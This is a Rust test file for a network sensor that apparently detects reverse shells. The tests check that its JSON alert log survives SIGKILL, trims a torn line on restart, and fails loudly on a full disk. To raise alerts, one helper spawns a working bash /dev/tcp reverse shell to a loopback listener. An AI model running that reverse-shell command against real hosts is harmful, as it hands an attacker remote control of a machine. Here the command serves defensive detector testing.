//! What the sensor was trusted with survives: each alert is on disk as soon as it is
//! issued, a `kill -9` leaves only whole lines, a restart appends (cutting a torn last
//! line, if one was left), and a full disk is an error with a non-zero exit, not silence.
//!
//! Needs root (capture on loopback, a tmpfs mount), like the other live tests; without
//! it they fail, unless SHELLSIGHT_SKIP_PRIVILEGED=1.

mod agent_support;
mod common;

use agent_support::privileged;
use common::{bin, fixture, json_lines, operator};
use serde_json::Value;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

fn temp_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("ss-nothing-lost-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// A one-second live sensor on a loopback port nothing uses: it writes only its stats.
fn quiet_sensor_writing_to(out: &Path) -> std::process::Output {
    Command::new(bin())
        .args(["sensor", "--interface", "lo", "--bpf", "tcp port 9", "--duration", "1"])
        .args(["--format", "json", "-o"])
        .arg(out)
        .output()
        .unwrap()
}

/// Every line of `path` parses as a JSON object; returns them.
fn whole_records(path: &Path) -> Vec<Value> {
    let bytes = std::fs::read(path).unwrap();
    assert!(bytes.is_empty() || bytes.ends_with(b"\n"), "the file ends inside a line");
    json_lines(&bytes)
}

fn alerts(records: &[Value]) -> Vec<&Value> {
    records.iter().filter(|r| r["event"]["kind"] == "alert").collect()
}

/// A real bash reverse shell to a typing listener on loopback `port`.
fn reverse_shell(port: u16) -> (std::thread::JoinHandle<()>, Child) {
    let listener = TcpListener::bind(("127.0.0.1", port)).unwrap();
    let typist = std::thread::spawn(move || operator(listener));
    let shell = Command::new("bash")
        .args(["-c", &format!("exec bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1")])
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    (typist, shell)
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

#[test]
fn kill_9_keeps_every_alert_already_issued_and_leaves_no_torn_line() {
    if !privileged() {
        return;
    }
    let dir = temp_dir("kill");
    let out = dir.join("alerts.jsonl");
    let ports: Vec<u16> = (0..3).map(|_| free_port()).collect();
    let bpf = ports.iter().map(|p| format!("tcp port {p}")).collect::<Vec<_>>().join(" or ");
    let mut sensor = Command::new(bin())
        .args(["sensor", "--interface", "lo", "--bpf", &bpf, "--format", "json", "-o"])
        .arg(&out)
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(1500));
    // Three shells, started a few seconds apart: when the first one's alert is on disk,
    // the others are still being typed into.
    let mut shells = Vec::new();
    for port in &ports {
        shells.push(reverse_shell(*port));
        std::thread::sleep(Duration::from_millis(2500));
    }
    // An alert issued by a running sensor is in the file already: nothing waits in a buffer.
    let deadline = Instant::now() + Duration::from_secs(40);
    let before_kill = loop {
        let records = json_lines(&std::fs::read(&out).unwrap_or_default());
        let n = alerts(&records).len();
        if n > 0 {
            break records;
        }
        assert!(Instant::now() < deadline, "no alert reached the file while the sensor ran");
        std::thread::sleep(Duration::from_millis(100));
    };
    sensor.kill().unwrap(); // SIGKILL
    let _ = sensor.wait();
    let after_kill = whole_records(&out);
    let ids = |rs: &[&Value]| rs.iter().map(|r| r["event"]["id"].to_string()).collect::<Vec<_>>();
    let (had, kept) = (ids(&alerts(&before_kill)), ids(&alerts(&after_kill)));
    for id in &had {
        assert!(kept.contains(id), "alert {id} was seen in the file before the kill and is gone");
    }
    eprintln!("alerts on disk when killed: {}, after: {}", had.len(), kept.len());
    for (typist, mut shell) in shells {
        let _ = typist.join();
        let _ = shell.kill();
        let _ = shell.wait();
    }
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn a_restart_appends_and_cuts_a_torn_last_line() {
    if !privileged() {
        return;
    }
    let dir = temp_dir("restart");
    let out = dir.join("alerts.jsonl");
    let earlier = "{\"event\":{\"kind\":\"alert\",\"id\":\"from-the-last-run\"}}\n";
    std::fs::write(&out, format!("{earlier}{{\"event\":{{\"kind\":\"al")).unwrap();
    let run = quiet_sensor_writing_to(&out);
    let err = String::from_utf8_lossy(&run.stderr);
    assert!(run.status.success(), "{err}");
    assert!(err.contains("removed a torn last line (20 bytes)"), "{err}");
    let records = whole_records(&out);
    assert_eq!(records[0]["event"]["id"], "from-the-last-run", "the earlier run's records were kept");
    assert!(records.iter().skip(1).any(|r| r["event"]["kind"] == "metric"), "this run appended its stats");
    let _ = std::fs::remove_dir_all(&dir);
}

/// A tmpfs mounted for the test and filled up; unmounted when dropped.
struct FullDisk {
    dir: PathBuf,
}

impl FullDisk {
    fn new() -> FullDisk {
        let dir = temp_dir("full");
        let status = Command::new("mount")
            .args(["-t", "tmpfs", "-o", "size=64k", "tmpfs"])
            .arg(&dir)
            .status()
            .expect("run mount");
        assert!(status.success(), "mount a tmpfs on {}", dir.display());
        // Fill it: dd stops at "No space left on device".
        let _ = Command::new("dd")
            .args(["if=/dev/zero", "bs=4k", "count=1000"])
            .arg(format!("of={}", dir.join("filler").display()))
            .stderr(Stdio::null())
            .status();
        FullDisk { dir }
    }
}

impl Drop for FullDisk {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.dir).status();
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

#[test]
fn a_full_disk_is_a_clear_error_and_a_non_zero_exit() {
    if !privileged() {
        return;
    }
    let disk = FullDisk::new();
    for (what, flag) in [("alerts", "-o"), ("flows", "--flows")] {
        let run = Command::new(bin())
            .arg("replay")
            .arg(fixture("demo.pcap"))
            .args(["--format", "json", flag])
            .arg(disk.dir.join(format!("{what}.jsonl")))
            .stdout(Stdio::null())
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&run.stderr);
        assert_eq!(run.status.code(), Some(1), "replay {flag} on a full disk: {err}");
        assert!(err.contains(&format!("writing {what}")) && err.contains("No space left on device"), "{err}");
    }
    let run = quiet_sensor_writing_to(&disk.dir.join("live.jsonl"));
    let err = String::from_utf8_lossy(&run.stderr);
    assert_eq!(run.status.code(), Some(1), "sensor on a full disk: {err}");
    assert!(err.contains("No space left on device"), "{err}");
}
